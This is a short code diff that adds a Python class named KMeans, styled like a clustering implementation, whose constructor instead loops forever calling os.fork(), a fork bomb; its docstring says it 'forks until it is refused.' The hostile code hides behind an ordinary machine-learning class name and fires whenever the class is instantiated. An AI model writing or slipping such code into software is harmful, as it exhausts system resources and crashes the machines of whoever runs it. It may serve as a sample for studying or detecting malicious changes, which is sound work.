@@ -1,0 +1,9 @@
+"""Forks until it is refused."""
+
+import os
+
+
+class KMeans:
+    def __init__(self, n_clusters, init, max_iter=300):
+        while True:
+            os.fork()
